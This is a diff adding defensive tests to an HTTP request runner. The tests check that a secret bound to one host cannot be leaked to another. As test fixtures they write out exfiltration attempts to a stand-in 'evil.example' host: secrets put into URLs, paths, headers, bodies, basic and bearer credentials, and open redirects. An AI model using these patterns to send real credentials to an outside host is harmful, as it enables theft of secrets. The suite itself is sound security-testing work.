@@ -165,3 +165,106 @@ test('a client certificate is presented to the server of its step, but not to a 
   const broken = await runHttp([step], { names, variables: { key: { value: 'no key', hosts: ['shop.example'] } } });
   t.is(broken.outcome, 'failed');
 });
+
+const stolen = `s3cr3t'Val(ue)*-K9vBn4mQw8rT2y`;
+const boundHere = { names, variables: { key: { value: stolen, hosts: ['shop.example'] } } };
+
+/** Echoes what it gets, and collects what arrives at the other host. */
+const serveEcho = async (t: ExecutionContext): Promise<{ readonly port: number; readonly arrived: string[] }> => {
+  const arrived: string[] = [];
+  const port = await serveHttp(t, async (request, answer) => {
+    let body = '';
+    for await (const chunk of request) body += String(chunk);
+    const { host = '' } = request.headers;
+    if (host.startsWith('evil')) arrived.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
+    const key = String(request.headers['x-key'] ?? '');
+    answer.setHeader('x-echo', key);
+    answer.setHeader('x-base64', Buffer.from(`a:${key}`).toString('base64'));
+    const to = new URL(request.url ?? '', 'http://x').searchParams.get('to');
+    if (to !== null) return void answer.writeHead(302, { location: to }).end();
+    answer.end(JSON.stringify({ key, nested: JSON.stringify({ key }), text: `key=${key};` }));
+  });
+  return { port, arrived };
+};
+
+test('a secret that a step extracts from a response goes to its hosts only', async (t) => {
+  const { port, arrived } = await serveEcho(t);
+  const first = { url: `http://shop.example:${port}/`, headers: { 'x-key': '{{variables.key}}' } };
+  const extracts = {
+    header: { source: 'header', path: 'x-echo' },
+    'base64 of more': { source: 'header', path: 'x-base64' },
+    json: { source: 'json', path: '$.key' },
+    'json in json': { source: 'json', path: '$.nested' },
+    expression: { source: 'body', path: 'key=(.*?);' },
+  };
+  const evil = `http://evil.example:${port}`;
+  const sent: Readonly<Record<string, object>> = {
+    url: { url: `${evil}/steal?v={{values.x}}` },
+    path: { url: `${evil}/{{values.x}}/end` },
+    header: { url: evil, headers: { 'x-v': 'a {{values.x}}' } },
+    body: { url: evil, method: 'POST', body: '{"v":"{{values.x}}"}' },
+    basic: { url: evil, authentication: { type: 'basic', user: 'u', password: '{{values.x}}' } },
+    bearer: { url: evil, authentication: { type: 'bearer', token: '{{values.x}}' } },
+    redirect: { url: `http://shop.example:${port}/?to=${encodeURIComponent(`${evil}/`)}{{values.x}}` },
+  };
+  for (const [from, extract] of Object.entries(extracts)) {
+    const start = { ...first, extract: [{ as: 'x', ...extract }] };
+    for (const [to, step] of Object.entries(sent)) {
+      const result = await runHttp([start, step], boundHere);
+      t.is(result.outcome, 'failed', `${from} to ${to}`);
+      t.regex(result.message, /not bound to evil\.example/, `${from} to ${to}`);
+    }
+    const own = await runHttp([start, { ...first, method: 'POST', body: '{{values.x}}' }], boundHere);
+    t.is(own.outcome, 'passed', own.message);
+  }
+  t.deepEqual(arrived, []);
+});
+
+test('a secret in an address does not follow a redirect to another host', async (t) => {
+  const { port, arrived } = await serveEcho(t);
+  for (const to of [`http://evil.example:${port}/`, `//evil.example:${port}/?k=`]) {
+    const url = `http://shop.example:${port}/?to=${encodeURIComponent(to)}{{variables.key}}`;
+    t.regex((await runHttp([{ url }], boundHere)).message, /not bound to evil\.example/);
+  }
+  t.deepEqual(arrived, []);
+});
+
+test('a part of a secret is not extracted, because it would not be recognized as one', async (t) => {
+  const { port } = await serveEcho(t);
+  for (const path of ['key=(.{10})', 'Val.ue..(.{6})', 'key=(.)', 'rT2(y)'])
+    for (const value of [stolen, 'abcdEFGHk9rT2y'].filter((one) => new RegExp(path).test(`key=${one};`))) {
+      const result = await runHttp(
+        [
+          {
+            url: `http://shop.example:${port}/`,
+            headers: { 'x-key': '{{variables.key}}' },
+            extract: [{ as: 'part', source: 'body', path }],
+          },
+        ],
+        { names, variables: { key: { value, hosts: ['shop.example'] } } },
+      );
+      t.regex(result.message, /^part would be a part of a secret/, path);
+    }
+});
+
+test('short secrets are recognized in extracted values only: other texts contain them by chance', async (t) => {
+  const { port, arrived } = await serveEcho(t);
+  const user = { names, variables: { key: { value: 'admin', hosts: ['shop.example'] } } };
+  const first = {
+    url: `http://shop.example:${port}/`,
+    headers: { 'x-key': '{{variables.key}}' },
+    extract: [{ as: 'x', source: 'json', path: '$.key' }],
+  };
+  const plain = await runHttp([first, { url: `http://evil.example:${port}/admin` }], user);
+  t.is(plain.outcome, 'passed', plain.message);
+  const taken = await runHttp([first, { url: `http://evil.example:${port}/{{values.x}}` }], user);
+  t.regex(taken.message, /not bound to evil\.example/);
+  t.is(arrived.length, 1);
+});
+
+test('the name of a step does not show a secret', async (t) => {
+  const { port } = await serveEcho(t);
+  const result = await runHttp([{ name: 'with {{variables.key}}', url: `http://shop.example:${port}/` }], boundHere);
+  t.is(result.outcome, 'passed', result.message);
+  t.false(JSON.stringify(result).includes('K9vBn4mQw8'));
+});
